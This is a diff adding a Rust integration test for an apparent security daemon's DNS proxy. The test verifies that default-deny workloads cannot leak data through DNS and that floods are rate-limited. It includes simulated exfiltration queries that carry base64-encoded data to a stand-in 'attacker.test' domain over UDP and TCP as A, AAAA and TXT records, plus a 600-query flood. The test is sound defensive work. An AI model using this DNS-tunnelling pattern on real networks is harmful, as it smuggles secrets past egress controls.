@@ -573,3 +573,224 @@ attach_cgroup = "{root}"
     );
     assert!(d.stop());
 }
+
+/// The proxy as a policy point: against a real dnsmasq that logs every query it gets, a
+/// `default = "deny"` workload cannot carry data out through names or types its rules do
+/// not allow (UDP and TCP, A, AAAA, TXT): nothing of it reaches dnsmasq, the client gets
+/// REFUSED, events and counters are exact. Allowed names (exact, wildcard, through a
+/// CNAME) resolve and connect, answer TTLs are capped at what the policy allows, a client
+/// that is no workload is refused, `resolve_any` forwards any name, and a flooding
+/// workload does not stop another from resolving.
+#[test]
+fn proxy_refuses_what_no_host_rule_allows() {
+    let ns = NetNs::new();
+    for a in ["93.184.216.34", "151.101.1.10", "151.101.1.20"] {
+        ns.add_addr(a);
+        ns.listen_tcp(&format!("{a}:443"));
+    }
+    let dnsmasq = Dnsmasq::start_args(
+        &ns,
+        "93.184.216.34 api.example.test\n151.101.1.20 edge.othercdn.test\n",
+        &[
+            "--address=/cdn.example.test/151.101.1.10".into(),
+            "--cname=www.example.test,edge.othercdn.test".into(),
+        ],
+        60,
+    );
+    let cg = TestCgroup::new();
+    let (_, web_dir) = cg.child("web-mcp");
+    let (_, flood_dir) = cg.child("flood-mcp");
+    let (_, any_dir) = cg.child("any-mcp");
+    let (_, stranger_dir) = cg.child("stranger");
+    let d = Daemon::start(&format!(
+        r#"
+[[workload]]
+name = "web-mcp"
+cgroup = "{root}/web-mcp"
+default = "deny"
+[[workload.allow]]
+host = "api.example.test"
+ports = [443]
+[[workload.allow]]
+host = "*.cdn.example.test"
+ports = [443]
+[[workload.allow]]
+host = "www.example.test"
+ports = [443]
+
+[[workload]]
+name = "flood-mcp"
+cgroup = "{root}/flood-mcp"
+default = "deny"
+[[workload.allow]]
+host = "*.cdn.example.test"
+ports = [443]
+
+[[workload]]
+name = "any-mcp"
+cgroup = "{root}/any-mcp"
+default = "deny"
+resolve_any = true
+
+[dns]
+nameservers = ["127.0.0.1:53"]
+netns = "{netns}"
+proxy = "127.0.0.1:5353"
+min_ttl = 1
+max_ttl = 10
+grace = 1
+workload_queries_per_sec = 20
+workload_in_flight = 8
+
+[daemon]
+attach_cgroup = "{root}"
+[events]
+rate_limit_per_sec = 0
+"#,
+        root = cg.rel,
+        netns = ns.path().display()
+    ));
+    let mut web = Probe::new(PROBE, &web_dir, &ns);
+    let ask = |p: &mut Probe, name: &str, ty: &str, proto: &str| {
+        p.op(&format!("dns {name} {ty} {PROXY} {proto}"))
+    };
+    let refused = "RCODE=5 ADDR=- TTL=- ANSWERS=0";
+
+    // A wildcard name: answered, its TTL (60 at dnsmasq) capped at max_ttl = 10, usable.
+    let r = ask(&mut web, "x1.cdn.example.test", "A", "udp");
+    assert!(r.starts_with("RCODE=0 ADDR=151.101.1.10 TTL="), "{r}");
+    let ttl: u32 = r.split("TTL=").nth(1).unwrap().split(' ').next().unwrap().parse().unwrap();
+    assert!((1..=10).contains(&ttl), "answer TTL {ttl} above max_ttl: {r}");
+    assert_eq!(web.op("tcp 151.101.1.10 443"), "OK");
+    let r = ask(&mut web, "api.example.test", "A", "tcp");
+    assert!(r.starts_with("RCODE=0 ADDR=93.184.216.34 TTL="), "{r}");
+
+    // Exfiltration attempts: names no rule covers, over UDP and TCP, as A, AAAA, TXT.
+    let mut sent = 0;
+    for proto in ["udp", "tcp"] {
+        for ty in ["A", "AAAA", "TXT"] {
+            let name = format!("c2VjcmV0LTQy-{proto}-{ty}.attacker.test").to_lowercase();
+            assert_eq!(ask(&mut web, &name, ty, proto), refused, "{name} {ty}/{proto}");
+            sent += 1;
+        }
+    }
+    // Allowed names, but types that carry data: refused too.
+    for ty in ["TXT", "ANY", "MX"] {
+        let r = ask(&mut web, "api.example.test", ty, "udp");
+        assert_eq!(r, refused, "{ty} for an allowed name");
+    }
+    // A CNAME target is not allowed on its own, only once an allowed name led to it.
+    assert_eq!(ask(&mut web, "edge.othercdn.test", "A", "udp"), refused);
+    let r = ask(&mut web, "www.example.test", "A", "udp");
+    assert!(r.starts_with("RCODE=0 ADDR=151.101.1.20"), "CNAME chain: {r}");
+    assert_eq!(web.op("tcp 151.101.1.20 443"), "OK", "the CNAME target's address");
+    let r = ask(&mut web, "edge.othercdn.test", "A", "udp");
+    assert!(r.starts_with("RCODE=0 ADDR=151.101.1.20"), "reached through the CNAME: {r}");
+
+    // A client that is no workload gets nothing upstream.
+    let mut stranger = Probe::new(PROBE, &stranger_dir, &ns);
+    assert_eq!(ask(&mut stranger, "api.example.test", "A", "udp"), refused);
+    assert_eq!(ask(&mut stranger, "api.example.test", "A", "tcp"), refused);
+
+    // resolve_any: any name goes upstream; still only address types.
+    let mut any = Probe::new(PROBE, &any_dir, &ns);
+    let r = ask(&mut any, "whatever.any.test", "A", "udp");
+    assert!(!r.starts_with("QUERY"), "{r}");
+    assert_eq!(ask(&mut any, "whatever.any.test", "TXT", "udp"), refused);
+
+    // Nothing refused reached dnsmasq; what was allowed did.
+    let queries = dnsmasq.queries();
+    let leaked: Vec<&String> = queries
+        .iter()
+        .filter(|q| q.contains("attacker") || q.contains("query[TXT]") || q.contains("query[MX]") || q.contains("query[ANY]"))
+        .collect();
+    assert!(leaked.is_empty(), "refused queries reached dnsmasq: {leaked:#?}");
+    for want in ["x1.cdn.example.test", "www.example.test", "whatever.any.test"] {
+        assert!(queries.iter().any(|q| q.contains(want)), "{want} never asked: {queries:#?}");
+    }
+    assert_eq!(
+        queries.iter().filter(|q| q.contains("query[A] edge.othercdn.test")).count(),
+        1,
+        "only the question after the CNAME: {queries:#?}"
+    );
+
+    // Exact events and counters.
+    let mut events = Vec::new();
+    let want = |reason: &str, workload: Option<&str>| -> usize {
+        match (reason, workload) {
+            ("name-not-allowed", Some("web-mcp")) => sent + 1,
+            ("type-not-allowed", Some("web-mcp")) => 3,
+            ("type-not-allowed", Some("any-mcp")) => 1,
+            ("unattributed", None) => 2,
+            _ => 0,
+        }
+    };
+    let cases = [
+        ("name-not-allowed", Some("web-mcp")),
+        ("type-not-allowed", Some("web-mcp")),
+        ("type-not-allowed", Some("any-mcp")),
+        ("unattributed", None),
+    ];
+    let count = |events: &[Value], reason: &str, workload: Option<&str>| {
+        events
+            .iter()
+            .filter(|e| {
+                e["hook"] == "dns"
+                    && e["reason"] == reason
+                    && e.get("dns_type").is_some()
+                    && e["workload"].as_str() == workload
+            })
+            .count()
+    };
+    let deadline = Instant::now() + Duration::from_secs(10);
+    while cases.iter().any(|(r, w)| count(&events, r, *w) < want(r, *w)) && Instant::now() < deadline {
+        events.extend(d.events(Duration::from_millis(200)));
+    }
+    events.extend(d.events(Duration::from_millis(300)));
+    for (r, w) in cases {
+        assert_eq!(count(&events, r, w), want(r, w), "{r} events for {w:?}: {events:#?}");
+        let series = format!(
+            "mcp_guard_dns_query_refused_total{{reason=\"{r}\",workload=\"{}\"}}",
+            w.unwrap_or("")
+        );
+        assert_eq!(metric(&d, &series), want(r, w) as f64, "{series}");
+    }
+    let e = events
+        .iter()
+        .find(|e| e["reason"] == "name-not-allowed" && e["dns_type"] == "TXT")
+        .expect("a TXT exfiltration event");
+    assert_schema_valid(e);
+    assert_eq!(e["verdict"], "refused");
+    assert_eq!(e["dns_source"], "proxy");
+    assert!(e["name"].as_str().unwrap().ends_with(".attacker.test"), "{e:#}");
+    let line = first_event_line(&d, &["--since", "5m", "--reason", "name-not-allowed"]);
+    assert!(
+        line.contains("REFUSED web-mcp DNS query c2vjcmv0ltqy-udp-a.attacker.test A from 127.0.0.1:"),
+        "{line}"
+    );
+
+    // Fairness: one workload floods (600 allowed names at once, 20 per second allowed);
+    // another resolves meanwhile.
+    let mut flood = Probe::new(PROBE, &flood_dir, &ns);
+    let flooding = std::thread::spawn(move || flood.op(&format!("dns-flood 600 f cdn.example.test {PROXY}")));
+    std::thread::sleep(Duration::from_millis(100));
+    let r = ask(&mut web, "x2.cdn.example.test", "A", "udp");
+    assert!(r.starts_with("RCODE=0 ADDR=151.101.1.10"), "starved by another workload: {r}");
+    let flooded = flooding.join().expect("flood");
+    assert!(flooded.starts_with("SENT 600 ANSWERED"), "{flooded}");
+    let limited = metric(&d, "mcp_guard_dns_query_refused_total{reason=\"rate-limited\",workload=\"flood-mcp\"}")
+        + metric(&d, "mcp_guard_dns_query_refused_total{reason=\"in-flight-limited\",workload=\"flood-mcp\"}");
+    // What the flooder got back REFUSED is exactly what was counted (the kernel drops
+    // some of 600 datagrams sent at once from the proxy's socket buffer: never answered).
+    let refused_back: f64 = flooded
+        .split([' ', ','])
+        .find_map(|p| p.strip_prefix("5:"))
+        .map_or(0.0, |n| n.trim().parse().unwrap());
+    assert!(refused_back >= 100.0, "flood not limited: {flooded}");
+    assert_eq!(limited, refused_back, "{flooded}");
+    assert_eq!(
+        metric(&d, "mcp_guard_dns_query_refused_total{reason=\"rate-limited\",workload=\"web-mcp\"}"),
+        0.0
+    );
+    assert!(d.stop(), "daemon exits cleanly");
+}
